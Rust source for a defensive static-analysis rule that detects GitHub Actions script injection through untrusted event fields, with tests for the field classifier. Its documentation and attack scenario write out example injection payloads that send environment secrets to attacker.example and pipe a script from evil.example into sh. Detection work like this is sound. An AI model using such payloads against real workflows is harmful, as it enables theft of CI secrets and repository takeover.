use super::util::{expressions, scalar_loc, Pipeline};
use crate::{Check, Context, Sink};
use stridemap_model::{Node, Severity};

declare_rule! {
    /// ## What it does
    /// Flags GitHub Actions `run:` scripts (and `actions/github-script` `script:` inputs) that
    /// interpolate attacker-controlled event data with `${{ … }}`: issue, pull request,
    /// comment, review and discussion titles and bodies, commit messages and author names,
    /// head branch names (`github.head_ref`, `…head.ref`, `workflow_run.head_branch`) and wiki
    /// page names. The finding is critical when the workflow runs on `pull_request_target`,
    /// `workflow_run`, `issues`, `issue_comment` or discussion events, where the job has the
    /// base repository's privileges.
    ///
    /// ## Why is this bad?
    /// `${{ }}` is expanded into the script text before the shell reads it. A pull request
    /// titled `"; curl -d "$(env)" https://attacker.example; #` turns into shell code that
    /// runs with the job's token and secrets: quoting inside the script does not help.
    ///
    /// ## Example
    /// ```yaml
    /// - run: echo "Checking ${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// - env:
    ///     PR_TITLE: ${{ github.event.pull_request.title }}
    ///   run: echo "Checking $PR_TITLE"
    /// ```
    /// Pass the value through an environment variable and quote it in the script, so the
    /// shell treats it as data.
    pub struct ScriptInjection {
        id: "CICD-SCRIPT-INJECTION",
        title: "Untrusted event data interpolated into a workflow script",
        group: CiCdPipeline,
        stride: ElevationOfPrivilege,
        severity: High,
        cwe: [78, 94],
        infra: [Cicd],
        equivalents: [],
        attack_scenario: "The attacker opens an issue titled `x\"; curl -sSf https://evil.example/p.sh | sh; echo \"`; the triage workflow echoes the title in a `run:` step, so the shell executes the payload, which steals the repository's secrets and pushes with the job's token.",
        mitigation: "Never expand event fields inside `run:`; map them to `env:` variables and reference `\"$VAR\"`; keep `permissions:` minimal for workflows that handle untrusted events.",
    }
}

/// The untrusted event field an expression reads, if any.
pub fn untrusted_field(expr: &str) -> Option<String> {
    let mut found = None;
    let e = expr;
    let mut i = 0;
    while i < e.len() {
        let rest = &e[i..];
        let start = if rest.starts_with("github.event.") || rest.starts_with("github.head_ref") {
            Some(0)
        } else {
            None
        };
        if start.is_some() {
            let path: String = rest
                .chars()
                .take_while(|c| {
                    c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '*' | '[' | ']')
                })
                .collect();
            if dangerous(&path) {
                found = Some(path.clone());
                break;
            }
            i += path.len().max(1);
        } else {
            i += rest.chars().next().map_or(1, char::len_utf8);
        }
    }
    found
}

fn dangerous(path: &str) -> bool {
    if path == "github.head_ref" {
        return true;
    }
    let segs: Vec<&str> = path
        .split('.')
        .map(|s| s.split('[').next().unwrap_or(s))
        .collect();
    let Some(last) = segs.last().copied() else {
        return false;
    };
    let prev = segs.len().checked_sub(2).map(|i| segs[i]).unwrap_or("");
    match last {
        "title" | "body" | "message" | "page_name" | "head_branch" | "label" => true,
        "ref" => prev == "head",
        "email" | "name" => {
            matches!(prev, "author" | "committer") || path.contains("head.repo.owner")
        }
        "default_branch" => path.contains("head.repo") || path.contains("head_repository"),
        _ => false,
    }
}

const PRIVILEGED: &[&str] = &[
    "pull_request_target",
    "workflow_run",
    "issues",
    "issue_comment",
    "discussion",
    "discussion_comment",
    "pull_request_review_comment",
];

impl Check for ScriptInjection {
    fn check_corpus(&self, cx: &Context, out: &mut Sink) {
        for p in Pipeline::all(cx.corpus) {
            if !p.is_github() {
                continue;
            }
            let privileged = p.trigger(PRIVILEGED).map(|(t, _)| t);
            for job in p.jobs() {
                for step in job.steps() {
                    let mut targets: Vec<(&Node, &str)> = Vec::new();
                    if let Some(run) = step.node.get("run") {
                        targets.push((run, "script"));
                    }
                    if step.is_action(&["actions/github-script"]) {
                        if let Some(s) = step.with("script") {
                            targets.push((s, "github-script code"));
                        }
                    }
                    for (node, what) in targets {
                        let Some(text) = node.as_str() else { continue };
                        let mut seen: Vec<String> = Vec::new();
                        for (offset, expr) in expressions(text) {
                            let Some(field) = untrusted_field(expr) else {
                                continue;
                            };
                            if seen.contains(&field) {
                                continue;
                            }
                            seen.push(field.clone());
                            let f = p.report(
                                out,
                                scalar_loc(&p, node, offset),
                                job.component(),
                                format!("{}:{field}", step.key()),
                                format!(
                                    "{} of {} expands `{field}`, which the event's author controls, directly into its {what}",
                                    step.describe(),
                                    job.describe()
                                ),
                            );
                            if let Some(t) = privileged {
                                f.severity(Severity::Critical);
                                f.title(format!("Untrusted event data interpolated into a script of a `{t}` workflow"));
                            }
                        }
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn untrusted_fields() {
        for e in [
            "github.event.issue.title",
            "github.event.pull_request.body",
            "github.event.comment.body",
            "github.event.pull_request.head.ref",
            "github.head_ref",
            "github.event.head_commit.message",
            "github.event.commits[0].author.email",
            "github.event.workflow_run.head_branch",
            "format('{0}', github.event.review.body)",
            "github.event.pull_request.head.repo.default_branch",
        ] {
            assert!(untrusted_field(e).is_some(), "{e}");
        }
        for e in [
            "github.event.pull_request.number",
            "github.event.pull_request.head.sha",
            "github.sha",
            "secrets.TOKEN",
            "github.event.repository.default_branch",
            "github.event.pull_request.base.ref",
            "github.ref_name",
        ] {
            assert!(untrusted_field(e).is_none(), "{e}");
        }
    }
}
